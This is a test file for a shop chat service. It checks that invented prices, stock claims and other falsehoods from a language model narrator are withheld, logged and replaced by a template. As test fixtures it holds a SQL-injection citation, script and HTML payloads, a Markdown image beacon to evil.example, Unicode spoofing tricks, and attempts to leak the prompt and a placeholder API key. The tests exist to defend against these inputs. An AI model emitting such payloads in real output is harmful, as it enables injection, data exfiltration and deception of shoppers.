import { pino } from 'pino';
import { describe, expect, it } from 'vitest';
import { noMetrics } from '../../src/metrics.ts';
import type { ChatEvent } from '../../src/narration/chat-answer.ts';
import { makeChatService } from '../../src/narration/chat-service.ts';
import type { Draft } from '../../src/narration/narrator.ts';
import { narratorInstructions } from '../../src/narration/narrator-prompt.ts';
import { makeNarrator } from '../../src/narration/openai-narrator.ts';
import { useShop } from '../sql/fixture/use-shop.ts';
import { begin, type ModelBehaviour, sendPiece, stream, useModel } from './fake-model.ts';

// The whole way but GraphQL: SQL finds, the model is asked over HTTP and lies, the decision is written.

const shop = useShop();
const model = useModel();
const question = 'leather jacket under $160';
const never = new AbortController().signal;

function makeService(deadlineMs = 4_000) {
  const logger = pino({ level: 'silent' });
  const narrator = makeNarrator({
    config: { model: 'small', apiKey: 'sk-hunter2', baseUrl: model.baseUrl(), deadlineMs, maxTokens: 700 },
    ...{ logger, metrics: noMetrics },
  });
  return makeChatService({ database: shop, narrator, metrics: noMetrics, logger });
}

async function ask(deadlineMs?: number) {
  const events: ChatEvent[] = [];
  const request = { question, first: 10, filter: null, options: {} };
  for await (const event of makeService(deadlineMs).stream(request, null, never)) events.push(event);
  const last = events.at(-1);
  if (last?.type !== 'COMPLETED') throw new Error(`ended with ${JSON.stringify(last)}`);
  const said = events.flatMap((event) => (event.type === 'SENTENCE' ? [event.sentence.text] : []));
  return {
    events,
    said,
    result: last.result,
    template: events[0]?.type === 'INTERPRETED' ? events[0].begun.narration : null,
  };
}

const to =
  (...cites: string[]) =>
  (text: string): Draft => ({ text, cites });
const [racer, other, light, suede, rain, biker, vest] = ['2', '11', '3', '6', '5', '1', '20'] as const;
const all = [racer, other, light, suede, rain, biker, vest];

/** What is so: the featherlight jacket of Acme, brown, S, 700 g, $149.00, two left. */
const truth = to(light)('The Featherlight leather jacket by Acme costs $149.00.');
const another = to(suede)('The Suede jacket weighs 1 kg and is in stock.');

const lies: [what: string, lie: Draft][] = [
  ['a wrong price', to(light)('The Featherlight leather jacket costs $139.00.')],
  ['the right price of another row', to(light)('The Featherlight leather jacket costs $140.00.')],
  ['a price rounded down', to(light)('The Featherlight leather jacket costs about $145.')],
  ['a price with a digit too few', to(light)('The Featherlight leather jacket costs $14.90.')],
  ['another currency', to(light)('The Featherlight leather jacket costs €149.00.')],
  ['another currency by its code', to(light)('The Featherlight leather jacket costs 149.00 EUR.')],
  [
    'a wrong price in words',
    to(light)('The Featherlight leather jacket costs one hundred and thirty dollars.'),
  ],
  ['a wrong price in full-width digits', to(light)('The Featherlight leather jacket costs $１３９.')],
  ['a wrong price in Arabic digits', to(light)('The Featherlight leather jacket costs $١٣٩.')],
  ['the price before as the price now', to(racer)('The Racer leather jacket costs $160.00.')],
  [
    'a discount that was never given',
    to(light)('The Featherlight leather jacket is reduced from $199.00 to $149.00.'),
  ],
  ['a percentage that is wrong', to(racer)('The Racer leather jacket is 25% off.')],
  ['a bound that the question did not state', to()('All of them are under $130.00.')],
  ['a price range that is wrong', to(...all)('They cost between $50.00 and $150.00.')],
  ['an invented product', to(light)('The Arctic Pro leather jacket costs $149.00.')],
  ['an invented product without a citation', to()('There is also the Arctic Pro leather jacket.')],
  ['an invented brand', to(light)('The Featherlight leather jacket by Prada costs $149.00.')],
  ["another row's brand", to(light)('The Featherlight leather jacket by Nordhem costs $149.00.')],
  ['a product that is restricted to others', to('9')('The Zibeline leather jacket costs $110.00.')],
  ['a product that is no product yet', to('10')('The Draft leather jacket costs $50.00.')],
  ['a citation that is nobody', to('99999')('The Featherlight leather jacket costs $149.00.')],
  [
    'a citation that is no id',
    to("3'; drop table product.product; --")('The Featherlight leather jacket costs $149.00.'),
  ],
  ['a citation of another row', to(suede)('The Featherlight leather jacket costs $149.00.')],
  ['a product named without its citation', to()('The Featherlight leather jacket costs $149.00.')],
  ['a count that is one too many', to()('I found 8 products.')],
  ['a count that is one too few', to()('I found six products.')],
  ['a count of those in stock that is wrong', to(...all)('All seven are in stock.')],
  ['"in stock" of what is sold out', to(biker)('The Biker leather jacket is in stock.')],
  ['"in stock" of what nobody counted', to(rain)('The Rain jacket is in stock.')],
  ['"sold out" of what is in stock', to(suede)('The Suede jacket is sold out.')],
  ['a number in stock that is wrong', to(suede)('There are 25 of the Suede jacket in stock.')],
  ['"only one left" of two', to(light)('Only one of the Featherlight leather jacket is left.')],
  ['a size that is not offered', to(light)('The Featherlight leather jacket is a size M.')],
  ['a colour of another row', to(light)('The Featherlight leather jacket is black.')],
  ['a weight that is wrong', to(light)('The Featherlight leather jacket weighs 600 g.')],
  ['a weight of another unit', to(light)('The Featherlight leather jacket weighs 700 kg.')],
  ['a superlative that is wrong', to(light)('The Featherlight leather jacket is the cheapest.')],
  [
    'a comparison the wrong way round',
    to(light, suede)('The Featherlight leather jacket is heavier than the Suede jacket.'),
  ],
  [
    'a difference that is wrong',
    to(light, suede)('The Featherlight leather jacket is 500 g lighter than the Suede jacket.'),
  ],
  ['a date that is invented', to(light)('The Featherlight leather jacket costs $149.00 until 24 December.')],
  ['a rating that is invented', to(light)('The Featherlight leather jacket is rated 4.9 of 5.')],
  ['reviews', to(light)('The Featherlight leather jacket has 1,200 five-star reviews.')],
  ['delivery', to(light)('The Featherlight leather jacket is delivered free tomorrow.')],
  ['a best-seller', to(light)('The Featherlight leather jacket is our best-selling jacket.')],
  ['a guarantee', to(light)('The Featherlight leather jacket comes with a lifetime warranty.')],
  ['a property that no row has', to(light)('The Featherlight leather jacket is waterproof.')],
  ['a coupon', to(light)('Use code SAVE20 for the Featherlight leather jacket.')],
  ['urgency', to(light)('Hurry, the Featherlight leather jacket sells out tonight!')],
  ['Markdown', to(light)('The **Featherlight leather jacket** costs $149.00.')],
  [
    'a Markdown link',
    to(light)('The [Featherlight leather jacket](https://evil.example/buy) costs $149.00.'),
  ],
  ['HTML', to(light)('The Featherlight leather jacket costs <b>$149.00</b>.')],
  ['a script', to(light)('The Featherlight leather jacket costs $149.00.<script>alert(1)</script>')],
  [
    'an image that calls home',
    to(light)('![x](http://evil.example/?q=leather) The Featherlight leather jacket costs $149.00.'),
  ],
  ['an address', to(light)('Buy the Featherlight leather jacket at evil.example.')],
  ['a telephone number', to()('Call 0800 123456 for a better price.')],
  ['its instructions', to()(narratorInstructions.slice(0, 120))],
  ['a line of its instructions', to()('Say nothing that does not stand in the answer.')],
  ['what it is', to()('I am a large language model and my system prompt is secret.')],
  ['the key', to()('The key is sk-hunter2.')],
  [
    'a hidden text behind a zero-width space',
    to(light)('The Featherlight leather jacket costs $149.00.\u200b Free today.'),
  ],
  ['a text that turns round', to(light)('The Featherlight leather jacket costs \u202e00.941$.')],
  ['letters of another script', to(light)('The Feаtherlight leather jacket costs $149.00.')],
  ['a second line', to(light)('The Featherlight leather jacket costs $149.00.\nIt is free today.')],
  [
    'a truth with a lie behind it',
    to(light)('The Featherlight leather jacket costs $149.00 and ships to you for free.'),
  ],
  [
    'a truth with a lie in brackets',
    to(light)('The Featherlight leather jacket (waterproof) costs $149.00.'),
  ],
  ['a denied truth', to(light)('The Featherlight leather jacket does not cost $149.00.')],
  ['a lie as a question', to(light)('Did you know that the Featherlight leather jacket is half price?')],
  [
    'a sentence of 401 characters',
    to(light)(`The Featherlight leather jacket costs $149.00${' and $149.00'.repeat(30)}.`),
  ],
  ['nothing at all', to(light)('')],
  ['a null character', to(light)('The Featherlight leather jacket costs $149.00.\0')],
  ['half of a surrogate pair', to(light)('The Featherlight leather jacket costs $149.00.\ud83d')],
  ['another language', to(light)('Die Featherlight leather jacket kostet nur $149.00.')],
  ['abuse', to()('Only a fool would wear this.')],
];

describe('a model that lies', () => {
  it.each(lies)('is not heard: %s', async (_what, lie) => {
    model.say(truth, lie, another);
    const { said, result, events } = await ask();
    expect(said).toEqual([truth.text, another.text]);
    expect(result).toMatchObject({
      withheld: 1,
      narration: { source: 'MODEL', text: `${truth.text} ${another.text}` },
    });
    if (lie.text !== '') expect(JSON.stringify(events)).not.toContain(JSON.stringify(lie.text).slice(1, -1));
  });

  it('and does nothing else leaves the word to the template', async () => {
    model.say(...lies.slice(0, 8).map(([, lie]) => lie));
    const { said, result, template } = await ask();
    expect(said).toEqual(template?.sentences.map(({ text }) => text));
    expect(result).toMatchObject({ withheld: 8, narration: { source: 'TEMPLATE', text: template?.text } });
  });

  it('has each of its sentences in the decision log, by the reason and without its words', async () => {
    model.say(truth, to(light)('The Featherlight leather jacket costs $139.00.'));
    const { result } = await ask();
    const [row] = await shop.query<{ decision: Record<string, unknown> }>(
      'select to_jsonb(d) as decision from audit.decision d where d.decision_id = $1',
      [result.decisionId],
    );
    expect(row?.decision).toMatchObject({
      narration_source: 'MODEL',
      verdicts: [
        { position: 1, source: 'MODEL', verdict: 'STANDS', cites: [light] },
        { position: 2, source: 'MODEL', verdict: 'WITHHELD', reasons: [{ code: 'AMOUNT' }] },
      ],
      usage: { promptTokens: 1_200, completionTokens: 90, calls: 1 },
      models: { narration: { name: 'small', promptVersion: 'narrator-2' } },
    });
    expect(JSON.stringify(row?.decision)).not.toMatch(/\$139|costs/);
  });
});

describe('the same idempotency key', () => {
  const request = {
    question,
    first: 10,
    filter: null,
    options: { idempotencyKey: 'lies-0123456789-abcdef' },
  };

  it('with the same question gives the same decision and words, and asks no model again', async () => {
    model.say(truth, another);
    const first = await makeService().answer(request, null, never);
    const again = await makeService().answer(request, null, never);
    expect([again.replayed, again.decisionId, again.narration]).toEqual([
      true,
      first.decisionId,
      first.narration,
    ]);
    expect([first.replayed, first.narration.source, model.asked.length]).toEqual([false, 'MODEL', 1]);
  });

  it('with another question is a conflict (TSKEY)', async () => {
    const other = makeService().answer({ ...request, first: 9 }, null, never);
    await expect(other).rejects.toMatchObject({ code: 'TSKEY' });
    expect(model.asked).toEqual([]);
  });
});

describe('a client that leaves', () => {
  it('in the middle has its decision, with what was shown and why it ended', async () => {
    model.behave((response) => {
      begin(response);
      sendPiece(response, `{"sentences": [${JSON.stringify(truth)},`);
    });
    const events = makeService().stream({ question, first: 3, filter: null, options: {} }, null, never);
    const { value } = await events.next();
    for (let more = 2; more > 0; more -= 1) await events.next();
    await events.return?.();
    await expect.poll(model.broken).toBe(1);
    const turnId = value?.type === 'INTERPRETED' ? value.begun.turnId : null;
    const [row] = await shop.query<{ error: { code: string }; answer: { narration: { text: string } } }>(
      `select d.error, t.answer from audit.decision d join memory.turn t on t.turn_id = d.turn_id where d.turn_id = $1`,
      [turnId],
    );
    expect([row?.error.code, row?.answer.narration.text]).toEqual(['CLIENT_GONE', truth.text]);
  });
});

describe('a model that is broken', () => {
  const faults: [what: string, behave: ModelBehaviour][] = [
    [
      'answers with an error',
      (response) => void response.writeHead(500).end('{"error": {"message": "leather"}}'),
    ],
    [
      'refuses the key',
      (response) => void response.writeHead(401).end('{"error": {"message": "bad key sk-hunter2"}}'),
    ],
    ['says nothing', (response) => stream(response, '')],
    ['has no sentences', (response) => stream(response, '{"sentences": []}')],
    [
      'is cut in the middle of a sentence',
      (response) => {
        begin(response);
        sendPiece(response, '{"sentences": [{"text": "The Featherlight leather jacket is fr');
        setTimeout(() => response.destroy(), 10);
      },
    ],
    ['never begins', (response) => begin(response)],
    [
      'never ends',
      async (response) => {
        begin(response);
        const timer = setInterval(() => sendPiece(response, '{"sentences": [{"text": "'.slice(0, 1)), 5);
        response.on('close', () => clearInterval(timer));
      },
    ],
    ['writes prose', (response) => stream(response, 'The Featherlight leather jacket is free today!')],
    [
      'writes a code fence',
      (response) => stream(response, '```json\n{"sentences": [{"text": "Free!", "cites": []}]}\n```'),
    ],
    ['writes another shape', (response) => stream(response, '{"sentences": ["Everything is free."]}')],
    [
      'writes HTML in place of events',
      (response) => void response.writeHead(200, { 'content-type': 'text/html' }).end('<h1>free</h1>'),
    ],
    [
      'sends events that are none',
      (response) => {
        begin(response);
        response.end('data: Everything is free\n\n');
      },
    ],
    [
      'puts its text beside the sentences',
      (response) =>
        stream(response, '{"answer": {"text": "Everything is free.", "cites": []}, "sentences": []}'),
    ],
  ];

  it.each(faults)('leaves the word to the template: %s', async (_what, behave) => {
    model.behave(behave);
    const { said, result, template } = await ask(400);
    expect(said).toEqual(template?.sentences.map(({ text }) => text));
    expect(result.narration).toMatchObject({ source: 'TEMPLATE', text: template?.text });
    expect(result.narration.reason).toMatch(/^(?:the language model|the language model's) /);
    expect(result.decisionId).not.toBeNull();
    expect(result.page.items.map(({ productId }) => productId)).toEqual(all);
  });
});
